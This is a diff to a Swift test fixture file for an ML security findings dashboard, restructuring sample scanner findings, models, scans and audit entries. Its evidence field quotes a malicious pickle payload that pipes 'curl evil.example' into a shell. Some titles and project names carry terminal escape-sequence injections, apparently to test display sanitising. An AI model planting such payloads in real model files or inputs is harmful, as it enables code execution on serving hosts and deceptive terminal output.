@@ -6,15 +6,16 @@ import Findings
 enum Fixture {
     static let now: Int64 = 1_795_000_000  // 2026-11-19 09:46 UTC
 
-    static func items(_ count: Int, offset: Int = 0) -> [FindingListItem] {
+    static func items(_ count: Int, offset: Int = 0) -> [FindingRow] {
         (0..<count).map { i in
             let index = i + offset
-            return FindingListItem(
-                id: Int64(100_000 - index), severity: Severity(rawValue: 4 - index % 5) ?? .info,
-                state: index % 7 == 3 ? .inTriage : .new, threat: index % 2 == 0 ? .malwareDistribution : .dataLoss,
+            return FindingRow(
+                id: Int64(100_000 - index), fingerprint: Fingerprint(bytes: [UInt8(index % 256)]),
                 tool: index % 2 == 0 ? "modelscan" : "detect-secrets", ruleID: index % 2 == 0 ? "posix.system" : "Secret Keyword",
                 title: index == 1 ? "Unsafe operator in 模型 file \u{1B}[2J\u{202E}evil" : "Unsafe operator posix.system in a model file",
-                model: "fraud-v\(index % 3)", location: "models/fraud-v\(index % 3).pkl:\(index + 1)",
+                severity: Severity(rawValue: 4 - index % 5) ?? .info, threat: index % 2 == 0 ? .malwareDistribution : .dataLoss,
+                state: index % 7 == 3 ? .inTriage : .new, model: "fraud-v\(index % 3)",
+                location: Location(path: "models/fraud-v\(index % 3).pkl", startLine: index + 1),
                 slaDue: now + Int64((index % 9) - 2) * 86_400)
         }
     }
@@ -38,10 +39,12 @@ enum Fixture {
 
     static func models() -> [ModelRisk] {
         [
-            ModelRisk(id: 1, name: "fraud-detector", version: "2.3.0", owner: "risk-ml", stage: "deploy", criticality: 2, source: "config",
-                      open: [.critical: 3, .high: 5, .medium: 2], slaBreaches: 2, trend: [10, 20, 30, 28, 40, 62, 62]),
-            ModelRisk(id: 2, name: "support-bot", owner: "cx-platform", stage: "monitor", source: "cyclonedx",
-                      open: [.high: 4, .low: 1], trend: [30, 25, 21]),
+            ModelRisk(
+                id: 1, name: "fraud-detector", version: "2.3.0", owner: "risk-ml", stage: "deploy", criticality: 2, source: "config",
+                open: [.critical: 3, .high: 5, .medium: 2], slaBreaches: 2, trend: [10, 20, 30, 28, 40, 62, 62]),
+            ModelRisk(
+                id: 2, name: "support-bot", owner: "cx-platform", stage: "monitor", source: "cyclonedx",
+                open: [.high: 4, .low: 1], trend: [30, 25, 21]),
             ModelRisk(id: 3, name: "fraud-transactions", kind: "dataset", source: "cyclonedx"),
             ModelRisk(id: 0, name: "(no model)", kind: "", open: [.medium: 7, .low: 9]),
         ]
@@ -55,45 +58,58 @@ enum Fixture {
         matrix.add(threat: .misconfiguration, severity: .low, state: .resolved, count: 1)
         return ModelBreakdown(
             byTarget: [GroupCounts(key: "Infrastructure", open: [.critical: 3, .medium: 2]), GroupCounts(key: "Data", open: [.high: 5])],
-            byTool: [GroupCounts(key: "modelscan", open: [.critical: 3]), GroupCounts(key: "detect-secrets", open: [.high: 5]),
-                     GroupCounts(key: "checkov", open: [.medium: 2])],
+            byTool: [
+                GroupCounts(key: "modelscan", open: [.critical: 3]), GroupCounts(key: "detect-secrets", open: [.high: 5]),
+                GroupCounts(key: "checkov", open: [.medium: 2]),
+            ],
             matrix: matrix,
             card: [CardFact("task", "classification"), CardFact("architecture", "gradient-boosted trees"), CardFact("metrics", "AUC 0.94")],
             lineage: ["trained on fraud-transactions-2026q3 2026q3"])
     }
 
-    static func detail(for item: FindingListItem) -> FindingDetail {
+    static func detail(for item: FindingRow) -> FindingDetail {
         var taxonomy = TaxonomyIDs()
         taxonomy.atlas = ["AML.T0010.003", "AML.T0011.000"]
         taxonomy.owaspML = ["ML06"]
         taxonomy.cwe = ["CWE-502"]
+        var row = item
+        row.fingerprint = Fingerprint(bytes: [0x9f, 0x2c, 0x4e, 0x1a, 0x0b, 0x7d, 0x3c, 0x5e, 0x8f, 0x6a, 0x2b, 0x4c, 0x1d, 0x3e, 0x5f, 0x7a])
+        row.message = "The model file calls posix.system when it is loaded.\nAnyone who can replace the file runs code on the serving host."
+        row.score = 9.8
+        row.taxonomy = taxonomy
+        row.firstSeen = now - 5 * 86_400
+        row.lastSeen = now - 3_600
+        row.version = 2
         return FindingDetail(
-            id: item.id, fingerprint: "9f2c4e1a0b7d3c5e8f6a2b4c1d3e5f7a", tool: item.tool, ruleID: item.ruleID, title: item.title,
-            message: "The model file calls posix.system when it is loaded.\nAnyone who can replace the file runs code on the serving host.",
-            severity: item.severity, score: 9.8, threat: item.threat, state: item.state, model: item.model, artifact: "models/fraud-v0.pkl",
-            location: item.location, taxonomy: taxonomy, evidence: "GLOBAL posix system\nREDUCE ('curl evil.example | sh',)",
-            mapping: "modelscan rule posix.* -> Infrastructure / Malware distribution (bundled mapping.json: unsafe operators in model files)",
-            firstSeen: now - 5 * 86_400, lastSeen: now - 3_600, slaDue: item.slaDue, assignee: nil, justification: nil, version: 2,
+            row: row, artifact: "models/fraud-v0.pkl", evidence: "GLOBAL posix system\nREDUCE ('curl evil.example | sh',)",
+            mappingWhy: "modelscan rule posix.* -> Infrastructure / Malware distribution (bundled mapping.json: unsafe operators in model files)",
             events: [
                 AuditEntry(id: 7, findingID: item.id, at: now - 5 * 86_400, actor: "ci-bot", kind: "created", from: nil, to: "new", reason: nil),
-                AuditEntry(id: 9, findingID: item.id, at: now - 86_400, actor: "alice (ssh 10.0.0.7)", kind: "state", from: "new",
-                           to: "in_triage", reason: "looking at the pickle opcodes"),
+                AuditEntry(
+                    id: 9, findingID: item.id, at: now - 86_400, actor: "alice (ssh 10.0.0.7)", kind: "state", from: "new",
+                    to: "in_triage", reason: "looking at the pickle opcodes"),
             ])
     }
 
     static func ingest() -> IngestSnapshot {
         IngestSnapshot(
             scans: [
-                ScanSummary(id: 3, tool: "garak", format: "garak", sourcePath: "/srv/inbox/done/garak.report.jsonl", ingestedAt: now - 60,
-                            actor: "mlsoc", total: 42, new: 3, unchanged: 38, reopened: 1, closed: 2, warnings: 0),
-                ScanSummary(id: 2, tool: "pip-audit", format: "pip-audit", sourcePath: "/srv/inbox/done/pip-audit.json", ingestedAt: now - 600,
-                            actor: "mlsoc", total: 0, new: 0, unchanged: 0, reopened: 0, closed: 0, warnings: 4),
-                ScanSummary(id: 1, tool: "bandit", format: "sarif", sourcePath: "reports/bandit.sarif", ingestedAt: now - 7_200,
-                            actor: "alice", total: 17, new: 17, unchanged: 0, reopened: 0, closed: 0, warnings: 0),
+                ScanSummary(
+                    id: 3, tool: "garak", format: "garak", sourcePath: "/srv/inbox/done/garak.report.jsonl", ingestedAt: now - 60,
+                    actor: "mlsoc", total: 42, new: 3, unchanged: 38, reopened: 1, closed: 2, warnings: 0),
+                ScanSummary(
+                    id: 2, tool: "pip-audit", format: "pip-audit", sourcePath: "/srv/inbox/done/pip-audit.json", ingestedAt: now - 600,
+                    actor: "mlsoc", total: 0, new: 0, unchanged: 0, reopened: 0, closed: 0, warnings: 4),
+                ScanSummary(
+                    id: 1, tool: "bandit", format: "sarif", sourcePath: "reports/bandit.sarif", ingestedAt: now - 7_200,
+                    actor: "alice", total: 17, new: 17, unchanged: 0, reopened: 0, closed: 0, warnings: 0),
             ],
             warnings: [ScanWarningLine(scanID: 2, message: "pip-audit audited none of 4 dependencies: the report is not a clean result")],
-            quarantine: [QuarantinedFile(name: "truncated.sarif", reason: "malformed: unexpected end of input at line 612, byte 20000",
-                                         modified: now - 300)],
+            quarantine: [
+                QuarantinedFile(
+                    name: "truncated.sarif", reason: "malformed: unexpected end of input at line 612, byte 20000",
+                    modified: now - 300)
+            ],
             queued: 2, inboxes: ["/srv/inbox"], workers: 2)
     }
 
@@ -102,10 +118,11 @@ enum Fixture {
             let disappeared = i % 4 == 0
             let actor = i % 3 == 0 ? "alice" : "mlsoc"
             let at: Int64 = now - Int64(i) * 3_600
-            return AuditEntry(id: Int64(500 - i), findingID: Int64(100_000 - i), at: at, actor: actor,
-                              kind: disappeared ? "disappeared" : "created", from: disappeared ? "new" : nil,
-                              to: disappeared ? "resolved" : "new",
-                              reason: disappeared ? "not in the newer report of its scope" : nil, tool: "modelscan", ruleID: "posix.system")
+            return AuditEntry(
+                id: Int64(500 - i), findingID: Int64(100_000 - i), at: at, actor: actor,
+                kind: disappeared ? "disappeared" : "created", from: disappeared ? "new" : nil,
+                to: disappeared ? "resolved" : "new",
+                reason: disappeared ? "not in the newer report of its scope" : nil, tool: "modelscan", ruleID: "posix.system")
         }
     }
 
@@ -114,13 +131,16 @@ enum Fixture {
     static func projects() -> [ProjectSummary] {
         [
             ProjectSummary(id: 1, name: "default"),
-            ProjectSummary(id: 2, name: "fraud-detection", owner: "risk-ml", criticality: 2,
-                           repository: "https://git.example.invalid/risk/fraud", open: [.critical: 4, .high: 30, .medium: 12],
-                           weighted: [.critical: 4, .high: 30, .medium: 12], scans: 14, lastScan: now - 3_600),
-            ProjectSummary(id: 3, name: "model-zoo", owner: "ml-platform", open: [.critical: 17, .low: 2],
-                           weighted: [.critical: 17, .low: 2], scans: 9, lastScan: now - 7_200),
-            ProjectSummary(id: 4, name: "support-bot\u{1B}]0;owned\u{07}", owner: "cx", criticality: 3, open: [.high: 3],
-                           weighted: [.high: 0.75], scans: 3, lastScan: now - 86_400),
+            ProjectSummary(
+                id: 2, name: "fraud-detection", owner: "risk-ml", criticality: 2,
+                repository: "https://git.example.invalid/risk/fraud", open: [.critical: 4, .high: 30, .medium: 12],
+                weighted: [.critical: 4, .high: 30, .medium: 12], scans: 14, lastScan: now - 3_600),
+            ProjectSummary(
+                id: 3, name: "model-zoo", owner: "ml-platform", open: [.critical: 17, .low: 2],
+                weighted: [.critical: 17, .low: 2], scans: 9, lastScan: now - 7_200),
+            ProjectSummary(
+                id: 4, name: "support-bot\u{1B}]0;owned\u{07}", owner: "cx", criticality: 3, open: [.high: 3],
+                weighted: [.high: 0.75], scans: 3, lastScan: now - 86_400),
         ]
     }
 
